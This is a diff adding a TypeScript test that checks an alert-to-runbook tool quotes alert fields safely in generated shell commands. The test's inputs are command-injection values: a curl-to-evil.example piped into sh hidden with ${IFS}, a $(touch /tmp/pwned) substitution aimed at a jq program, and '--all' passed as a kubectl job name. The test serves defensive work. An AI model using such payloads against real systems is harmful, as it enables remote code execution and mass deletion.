@@ -350,4 +350,22 @@ describe("hostile alert text", () => {
     for (const c of commands(r)) expect(outsideStrings(c)).not.toMatch(/evil\.example|vector\(1\)/);
     expect(commands(r).join("\n")).toContain("ssh <host>");
   });
+
+  test("the same holds for an alert the catalogue does not know, and for a value quoted inside a shell command", async () => {
+    const evil = "db-1;curl$" + "{IFS}evil.example|sh;#"; // ${IFS}: a space to the shell
+    const outsideStrings = (c: string) => c.replace(/"(?:\\.|[^"\\])*"/g, '""');
+    const unknown = await builtin(alertOf({ alertname: "CheckoutQueueOdd", instance: evil }));
+    for (const c of commands(unknown)) expect(outsideStrings(c)).not.toContain("evil.example");
+    expect(commands(unknown).join("\n")).toContain("ssh <host>");
+    // TargetDown's step quotes the instance inside jq's single-quoted program: $(…) there would run.
+    const target = await builtin(
+      alertOf({ alertname: "TargetDown", job: "node", instance: "x'$(touch /tmp/pwned)'" }),
+    );
+    const jq = commands(target).filter((c) => c.includes("jq '"));
+    expect(jq.length).toBeGreaterThan(0);
+    for (const c of jq) expect(c).not.toContain("$(touch");
+    // An option is not a value: `kubectl delete job --all`.
+    const job = await builtin(alertOf({ alertname: "KubeJobFailed", namespace: "prod", job_name: "--all" }));
+    for (const c of commands(job)) expect(c).not.toMatch(/job --all/);
+  });
 });
